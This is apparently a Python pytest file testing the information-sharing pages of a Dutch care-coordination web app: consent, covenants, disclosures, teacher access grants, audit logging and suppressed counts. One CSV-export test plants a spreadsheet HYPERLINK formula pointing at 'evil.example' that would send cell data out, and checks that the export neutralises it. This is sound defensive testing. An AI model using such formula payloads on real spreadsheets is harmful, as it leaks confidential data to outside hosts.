"""Informatie delen pages: case team only, Dutch errors that write nothing, strict shared view, counts."""

from __future__ import annotations

from datetime import date, timedelta
from typing import Any

import pytest
from django.utils import timezone

from keten.accounts.models import OrganisationType, Role
from keten.core.models import AuditEvent
from keten.dossiers.models import DossierNote, Relation
from keten.sharing import services
from keten.sharing.models import AccessGrant, Consent, Convenant, Disclosure, LegalBasis
from keten.testing.factories import OrganisationFactory, make_person, make_user

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate


@pytest.fixture
def school(db: Any) -> Any:
    return OrganisationFactory(name="Basisschool De Linde", type=OrganisationType.ONDERWIJS)


@pytest.fixture
def teacher(school: Any) -> Any:
    return make_user(Role.PROFESSIONAL, school, username="juf", first_name="Juf", last_name="Anna")


@pytest.fixture
def mother(dossier: Any) -> Any:
    return make_person(dossier.family, relation=Relation.OUDER, first_name="Moeder", date_of_birth=date(1985, 1, 1))


def _deelhulp_post(dossier: Any, school: Any, **extra: Any) -> dict[str, Any]:
    child = dossier.family.persons.filter(relation=Relation.KIND).first()
    data: dict[str, Any] = {
        "recipient_organisation": school.pk,
        "purpose": "De school helpt mee de zorgen te volgen",
        "about": [child.pk],
        "categories": ["signalen", "hulpverlening"],
        "needed": ["signalen", "hulpverlening"],
        "inform_client": "ja",
        "shared_on": TODAY().isoformat(),
        "client_informed_on": TODAY().isoformat(),
        "grant_days": "14",
        "advies": "1",
    }
    data.update(extra)
    return data


def _convenant(actor: Any, organisation: Any, school: Any) -> Convenant:
    return services.convenant_create(
        actor=actor,
        data=services.ConvenantData(
            title="Convenant Zorg en Veiligheid",
            party_ids=[organisation.pk, school.pk],
            purposes=["Samen zorgen signaleren"],
            start_date=TODAY() - timedelta(days=30),
            flows=[
                services.FlowData(
                    from_types=[OrganisationType.WIJKTEAM],
                    to_types=[OrganisationType.ONDERWIJS],
                    purpose="Afstemmen van de hulp",
                    categories=["signalen", "hulpverlening", "personalia"],
                    legal_basis=LegalBasis.PUBLIEKE_TAAK,
                )
            ],
        ),
    )


def test_dossier_page_shows_delen_section_with_links(client_for, professional, dossier):
    body = client_for(professional).get(f"/dossiers/{dossier.reference}/delen/").content.decode()
    assert 'id="h-delen"' in body
    assert f"/delen/{dossier.reference}/deelhulp/" in body
    assert f"/delen/{dossier.reference}/toestemming/nieuw/" in body


def test_outsiders_and_other_roles_get_404(client_for, outsider, dossier, organisation):
    policy = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
    for user in (outsider, policy):
        client = client_for(user)
        assert client.get(f"/delen/{dossier.reference}/deelhulp/").status_code == 404
        assert client.get(f"/delen/{dossier.reference}/toestemming/nieuw/").status_code == 404
        assert client.post(f"/delen/{dossier.reference}/deelhulp/", {}).status_code == 404
    assert client_for(outsider).get("/delen/verstrekkingen/").status_code == 404
    assert client_for(outsider).get("/delen/cijfers/").status_code == 404
    assert client_for(outsider).get("/delen/convenanten/").status_code == 404


def test_deelhulp_without_consent_advises_to_consult(client_for, professional, dossier, school):
    response = client_for(professional).post(f"/delen/{dossier.reference}/deelhulp/", _deelhulp_post(dossier, school))
    assert response.status_code == 200
    body = response.content.decode()
    assert "Deel nog niets" in body
    assert "geen geldige toestemming" in body
    assert not Disclosure.objects.exists()


def test_deelhulp_with_convenant_advises_sharing_and_records_with_grant(
    client_for, professional, dossier, school, teacher, organisation, actor_of
):
    manager = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
    _convenant(actor_of(manager), organisation, school)
    client = client_for(professional)
    advice = client.post(f"/delen/{dossier.reference}/deelhulp/", _deelhulp_post(dossier, school))
    body = advice.content.decode()
    assert "U mag deze informatie delen." in body
    assert "Informeer de ouders" in body
    assert "Convenant Zorg en Veiligheid" in body
    data = _deelhulp_post(dossier, school, recipient_user=str(teacher.pk), no_consent_reason="Convenant dekt dit delen")
    data.pop("advies")
    data["vastleggen"] = "1"
    response = client.post(f"/delen/{dossier.reference}/deelhulp/", data)
    assert response.status_code == 302
    disclosure = Disclosure.objects.get()
    assert disclosure.legal_basis == LegalBasis.CONVENANT
    assert disclosure.advice["advice"] == "delen"
    grant = AccessGrant.objects.get()
    assert grant.user == teacher
    assert 13 <= (grant.expires_at - timezone.now()).days <= 14


def test_recording_against_advice_needs_motivation_and_writes_nothing(client_for, professional, dossier, school):
    data = _deelhulp_post(dossier, school, legal_basis=LegalBasis.PUBLIEKE_TAAK, no_consent_reason="Nodig voor de hulp")
    data.pop("advies")
    data["vastleggen"] = "1"
    response = client_for(professional).post(f"/delen/{dossier.reference}/deelhulp/", data)
    assert response.status_code == 422
    assert "Motiveer waarom u toch deelt" in response.content.decode()
    assert not Disclosure.objects.exists()
    assert not AuditEvent.objects.filter(action="share").exists()


def test_deelhulp_bad_input_is_422_in_dutch(client_for, professional, dossier):
    response = client_for(professional).post(f"/delen/{dossier.reference}/deelhulp/", {"advies": "1"})
    assert response.status_code == 422
    assert "Controleer de volgende punten" in response.content.decode()


def test_consent_form_age_rules_next_to_field_and_nothing_written(client_for, professional, dossier, school, mother):
    child = dossier.family.persons.get(relation=Relation.KIND)
    client = client_for(professional)
    assert client.get(f"/delen/{dossier.reference}/toestemming/nieuw/").status_code == 200
    bad = {
        "giver": mother.pk,
        "giver_role": "jongere_16",
        "about": child.pk,
        "purpose": "Afstemmen met de school",
        "recipients": [school.pk],
        "form": "mondeling",
        "given_on": TODAY().isoformat(),
    }
    response = client.post(f"/delen/{dossier.reference}/toestemming/nieuw/", bad)
    assert response.status_code == 422
    body = response.content.decode()
    assert "alleen toestemming over zichzelf" in body
    assert 'id="id_giver_error"' in body
    assert not Consent.objects.exists()
    good = {**bad, "giver_role": "ouder_gezag"}
    assert client.post(f"/delen/{dossier.reference}/toestemming/nieuw/", good).status_code == 302
    consent = Consent.objects.get()
    page = client.get(f"/dossiers/{dossier.reference}/delen/").content.decode()
    assert "actief" in page
    withdrawn = client.post(
        f"/delen/{dossier.reference}/toestemming/{consent.pk}/intrekken/", {"withdrawn_on": TODAY().isoformat()}
    )
    assert withdrawn.status_code == 302
    consent.refresh_from_db()
    assert consent.withdrawn_on == TODAY()


def _record(actor: Any, dossier: Any, school: Any, teacher: Any, categories: list[str]) -> Disclosure:
    child = dossier.family.persons.get(relation=Relation.KIND)
    return services.disclosure_record(
        actor=actor,
        dossier=dossier,
        data=services.DisclosureData(
            about_ids=[child.pk],
            categories=categories,
            items=[],
            recipient_organisation_id=school.pk,
            recipient_user_id=teacher.pk,
            purpose="Hulp afstemmen met de school",
            legal_basis=LegalBasis.PUBLIEKE_TAAK,
            no_consent_reason="Taak van algemeen belang",
            shared_on=TODAY(),
            client_informed=True,
            client_informed_on=TODAY(),
            grant_days=14,
        ),
    )


def test_shared_view_shows_exactly_the_shared_part_and_404_after_expiry(
    client_for, professional, dossier, school, teacher, actor_of, outsider
):
    DossierNote.objects.create(dossier=dossier, author=professional, text="Geheime notitie over thuis")
    disclosure = _record(actor_of(professional), dossier, school, teacher, ["personalia", "hulpverlening"])
    grant = disclosure.grant
    client = client_for(teacher)
    listing = client.get("/delen/met-mij-gedeeld/").content.decode()
    assert f"/delen/toegang/{grant.pk}/" in listing
    body = client.get(f"/delen/toegang/{grant.pk}/").content.decode()
    child = dossier.family.persons.get(relation=Relation.KIND)
    assert child.full_name in body
    assert "Lopende hulp" in body
    assert "Geheime notitie" not in body
    assert "Signalen" not in body
    assert "999994669" not in body
    assert dossier.family.name not in body
    assert AuditEvent.objects.filter(action="view", object_type="sharing.grant").exists()
    assert client_for(outsider).get(f"/delen/toegang/{grant.pk}/").status_code == 404
    assert client.get(f"/dossiers/{dossier.reference}/").status_code == 404
    AccessGrant.objects.filter(pk=grant.pk).update(expires_at=timezone.now() - timedelta(minutes=1))
    assert client.get(f"/delen/toegang/{grant.pk}/").status_code == 404


def test_notes_only_when_notities_shared(client_for, professional, dossier, school, teacher, actor_of):
    DossierNote.objects.create(dossier=dossier, author=professional, text="Notitie voor school")
    grant = _record(actor_of(professional), dossier, school, teacher, ["notities"]).grant
    body = client_for(teacher).get(f"/delen/toegang/{grant.pk}/").content.decode()
    assert "Notitie voor school" in body
    assert dossier.family.persons.get(relation=Relation.KIND).last_name not in body


def test_dossier_timeline_query_count(
    client_for, professional, dossier, school, teacher, actor_of, django_assert_max_num_queries
):
    actor = actor_of(professional)
    _record(actor, dossier, school, teacher, ["signalen"])
    client = client_for(professional)
    client.get(f"/dossiers/{dossier.reference}/delen/")
    with django_assert_max_num_queries(60) as few:
        client.get(f"/dossiers/{dossier.reference}/delen/")
    for _ in range(5):
        _record(actor, dossier, school, teacher, ["signalen"])
    with django_assert_max_num_queries(len(few.captured_queries)):
        body = client.get(f"/dossiers/{dossier.reference}/delen/").content.decode()
    assert body.count("Basisschool De Linde") >= 6


def test_organisation_disclosures_filters_and_audited_csv(
    client_for, professional, officer, dossier, school, teacher, actor_of, django_assert_max_num_queries
):
    actor = actor_of(professional)
    for _ in range(3):
        _record(actor, dossier, school, teacher, ["signalen"])
    client = client_for(officer)
    client.get("/delen/verstrekkingen/")
    with django_assert_max_num_queries(30):
        body = client.get("/delen/verstrekkingen/?basis=publieke_taak&periode=30").content.decode()
    assert body.count("Basisschool De Linde") == 3
    assert "Basisschool De Linde" not in client.get("/delen/verstrekkingen/?basis=toestemming").content.decode()
    export = client.get("/delen/verstrekkingen/export.csv?periode=30")
    assert export.status_code == 200
    assert export.content.decode().count("Basisschool De Linde") == 3
    assert dossier.family.name not in export.content.decode()
    assert AuditEvent.objects.filter(action="export", object_type="sharing.disclosures").exists()
    assert client_for(professional).get("/delen/verstrekkingen/export.csv").status_code == 404


def test_municipality_counts_suppress_small_cells(
    client_for, professional, organisation, dossier, school, teacher, actor_of
):
    actor = actor_of(professional)
    for _ in range(5):
        _record(actor, dossier, school, teacher, ["signalen"])
    policy = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
    body = client_for(policy).get("/delen/cijfers/").content.decode()
    assert "Taak van algemeen belang" in body
    assert ">5<" in body
    assert dossier.family.name not in body
    assert client_for(professional).get("/delen/cijfers/").status_code == 404


def test_convenant_create_flow_without_basis_gets_dutch_error(client_for, organisation, school):
    manager = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
    client = client_for(manager)
    assert client.get("/delen/convenanten/nieuw/").status_code == 200
    data = {
        "title": "Convenant Zorg en Veiligheid",
        "parties": [organisation.pk, school.pk],
        "purposes": "Samen zorgen signaleren",
        "start_date": TODAY().isoformat(),
        "flow1_from_types": ["wijkteam"],
        "flow1_to_types": ["onderwijs"],
        "flow1_purpose": "Afstemmen",
        "flow1_categories": ["signalen"],
    }
    response = client.post("/delen/convenanten/nieuw/", data)
    assert response.status_code == 422
    assert "heeft geen grondslag" in response.content.decode()
    assert not Convenant.objects.exists()
    assert client.post("/delen/convenanten/nieuw/", {**data, "flow1_legal_basis": "publieke_taak"}).status_code == 302
    assert Convenant.objects.get().flows.count() == 1
    assert "Convenant Zorg en Veiligheid" in client.get("/delen/convenanten/").content.decode()
    assert "Convenant Zorg en Veiligheid" in client.get("/sociale-kaart/afspraken/").content.decode()


def test_withdraw_with_bad_date_is_422_and_changes_nothing(client_for, professional, dossier, school, mother, actor_of):
    child = dossier.family.persons.get(relation=Relation.KIND)
    consent = services.consent_record(
        actor=actor_of(professional),
        dossier=dossier,
        data=services.ConsentData(
            giver_id=mother.pk,
            giver_role="ouder_gezag",
            about_id=child.pk,
            purpose="Afstemmen met de school",
            recipient_ids=[school.pk],
            form="mondeling",
            given_on=TODAY() - timedelta(days=2),
        ),
    )
    url = f"/delen/{dossier.reference}/toestemming/{consent.pk}/intrekken/"
    response = client_for(professional).post(url, {"withdrawn_on": (TODAY() - timedelta(days=10)).isoformat()})
    assert response.status_code == 422
    assert "Vul een datum in tussen" in response.content.decode()
    consent.refresh_from_db()
    assert consent.withdrawn_on is None


def test_shared_with_me_lists_active_grants_in_few_queries(
    client_for, professional, dossier, school, teacher, actor_of, django_assert_max_num_queries
):
    actor = actor_of(professional)
    client = client_for(teacher)
    _record(actor, dossier, school, teacher, ["personalia"])
    client.get("/delen/met-mij-gedeeld/")
    with django_assert_max_num_queries(40) as one:
        client.get("/delen/met-mij-gedeeld/")
    for _ in range(4):
        _record(actor, dossier, school, teacher, ["personalia"])
    with django_assert_max_num_queries(len(one.captured_queries)):
        body = client.get("/delen/met-mij-gedeeld/").content.decode()
    assert body.count("/delen/toegang/") == 5
    dashboard = client.get("/").content.decode()
    assert "/delen/met-mij-gedeeld/" in dashboard


def test_other_municipality_sees_nothing(client_for, professional, dossier, school, teacher, actor_of):
    from keten.testing.factories import MunicipalityFactory

    elsewhere = OrganisationFactory(
        name="Wijkteam Elders", municipality=MunicipalityFactory(name="Andere gemeente", cbs_code="GM0001")
    )
    grant = _record(actor_of(professional), dossier, school, teacher, ["personalia"]).grant
    officer = make_user(Role.AANDACHTSFUNCTIONARIS, elsewhere, username="af-elders")
    policy = make_user(Role.BELEIDSMEDEWERKER, elsewhere, username="beleid-elders")
    client = client_for(officer)
    assert client.get(f"/delen/{dossier.reference}/deelhulp/").status_code == 404
    assert client.get(f"/delen/toegang/{grant.pk}/").status_code == 404
    assert "Basisschool De Linde" not in client.get("/delen/verstrekkingen/").content.decode()
    assert "Basisschool De Linde" not in client.get("/delen/verstrekkingen/export.csv").content.decode()
    counts = client_for(policy).get("/delen/cijfers/").content.decode()
    assert "Taak van algemeen belang" not in counts
    assert "Nog geen verstrekkingen." in counts


def test_csv_cells_cannot_run_as_formulas():
    from keten.core.exports import cell

    assert [cell(v) for v in ["=HYPERLINK(1)", "gewoon", "@x"]] == ["'=HYPERLINK(1)", "gewoon", "'@x"]


def test_disclosures_csv_neutralises_a_formula_in_an_organisation_name(
    client_for, professional, officer, dossier, actor_of
):
    crafted = OrganisationFactory(
        name='=HYPERLINK("https://evil.example/?"&A1,"School")', type=OrganisationType.ONDERWIJS
    )
    crafted_teacher = make_user(Role.PROFESSIONAL, crafted, username="juf-x")
    _record(actor_of(professional), dossier, crafted, crafted_teacher, ["signalen"])
    text = client_for(officer).get("/delen/verstrekkingen/export.csv").content.decode()
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""School"")"' in text
    assert ';"=HYPERLINK' not in text


def test_municipality_counts_hide_the_complement_of_a_small_cell(
    client_for, professional, organisation, dossier, school, teacher, actor_of
):
    actor = actor_of(professional)
    for _ in range(6):
        _record(actor, dossier, school, teacher, ["signalen"])
    jgz = OrganisationFactory(name="JGZ Noord", type=OrganisationType.JGZ)
    _record(actor, dossier, jgz, make_user(Role.PROFESSIONAL, jgz, username="jgz"), ["signalen"])
    policy = make_user(Role.BELEIDSMEDEWERKER, organisation, username="beleid")
    body = client_for(policy).get("/delen/cijfers/").content.decode()
    assert ">7<" in body  # the total and the one legal basis
    # 7 - 6 would give the single disclosure to the JGZ away: both recipient types are hidden.
    assert ">6<" not in body
    assert body.count('x<span class="keten-visually-hidden"> (niet getoond)</span>') == 2


def test_case_team_ends_access_early(client_for, professional, outsider, dossier, school, teacher, actor_of):
    grant = _record(actor_of(professional), dossier, school, teacher, ["personalia"]).grant
    page = client_for(professional).get(f"/dossiers/{dossier.reference}/delen/").content.decode()
    assert "Inzage beëindigen" in page
    url = f"/delen/{dossier.reference}/toegang/{grant.pk}/beeindigen/"
    assert client_for(outsider).post(url).status_code == 404
    assert client_for(professional).post(url).status_code == 302
    grant.refresh_from_db()
    assert grant.revoked_at is not None
    assert client_for(teacher).get(f"/delen/toegang/{grant.pk}/").status_code == 404


def test_dossier_page_shows_the_newest_with_a_link_to_the_paged_log(
    client_for,
    professional,
    outsider,
    organisation,
    dossier,
    school,
    teacher,
    actor_of,
    monkeypatch,
    django_assert_max_num_queries,
):
    from keten.sharing.selectors import disclosures as selectors

    monkeypatch.setattr(selectors, "RECENT_DISCLOSURES", 2)
    monkeypatch.setattr(selectors, "LOG_PAGE_SIZE", 2)
    actor = actor_of(professional)
    made = [_record(actor, dossier, school, teacher, ["signalen"]).reference for _ in range(5)]
    client = client_for(professional)
    page = client.get(f"/dossiers/{dossier.reference}/delen/").content.decode()
    assert "De nieuwste 2 van 5 verstrekkingen." in page
    assert made[4] in page
    assert made[3] in page
    assert made[2] not in page
    log_url = f"/delen/{dossier.reference}/verstrekkingen/"
    assert log_url in page

    first = client.get(log_url).content.decode()
    assert made[4] in first
    assert made[3] in first
    assert made[2] not in first
    assert "Pagina 1 van 3" in first
    assert "?pagina=2" in first
    with django_assert_max_num_queries(40):
        last = client.get(log_url, {"pagina": "3"}).content.decode()
    assert made[0] in last
    assert made[1] not in last
    assert "Verstrekking 5 tot en met 5 van 5." in last
    # Out-of-range and nonsense page numbers give the nearest page, never an error.
    assert made[0] in client.get(log_url, {"pagina": "99"}).content.decode()
    assert made[4] in client.get(log_url, {"pagina": "x"}).content.decode()
    events = AuditEvent.objects.filter(object_type="sharing.disclosure_log", object_id=dossier.reference)
    assert events.count() == 4
    assert events.order_by("pk").last().details["total"] == 5

    policy = make_user(Role.BELEIDSMEDEWERKER, organisation, username="bel")
    assert client_for(outsider).get(log_url).status_code == 404
    assert client_for(policy).get(log_url).status_code == 404
    assert client_for(professional).get("/delen/ONBEKEND/verstrekkingen/").status_code == 404
    assert events.count() == 4


def test_disclosure_log_queries_do_not_grow_with_rows(
    client_for, professional, dossier, school, teacher, actor_of, django_assert_max_num_queries
):
    actor = actor_of(professional)
    _record(actor, dossier, school, teacher, ["signalen"])
    client = client_for(professional)
    url = f"/delen/{dossier.reference}/verstrekkingen/"
    client.get(url)
    with django_assert_max_num_queries(40) as one:
        client.get(url)
    for _ in range(4):
        _record(actor, dossier, school, teacher, ["signalen"])
    with django_assert_max_num_queries(len(one.captured_queries)):
        body = client.get(url).content.decode()
    assert body.count("Basisschool De Linde") == 5
